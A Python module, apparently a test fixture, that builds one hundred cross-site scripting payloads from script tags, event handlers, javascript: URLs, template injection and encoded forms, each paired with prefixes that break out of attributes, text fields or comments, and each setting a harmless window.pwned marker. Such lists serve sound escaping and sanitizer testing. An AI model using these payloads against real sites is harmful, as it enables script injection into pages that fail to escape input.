"""A hundred texts that would run a script in a page that did not escape them: each sets window.pwned."""

RUN = "window.pwned=1"
PLAIN = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<link rel=stylesheet href='data:text/css,*{{}}' onload={RUN}>",
    f"<base href='javascript:{RUN}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button autofocus>x",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<template><script>{RUN}</script></template><marquee onstart={RUN}>",
    f"{{{{ constructor.constructor('{RUN}')() }}}}",
    f"{{% raw %}}<script>{RUN}</script>{{% endraw %}}",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
)
# What ends the place that a text stands in: an attribute, a title, a text field, a comment.
BEFORE = ("", "\"'>", "</title></textarea></option></q></mark>", "--></style></script>]]>")
PAYLOADS = [before + text for before in BEFORE for text in PLAIN]
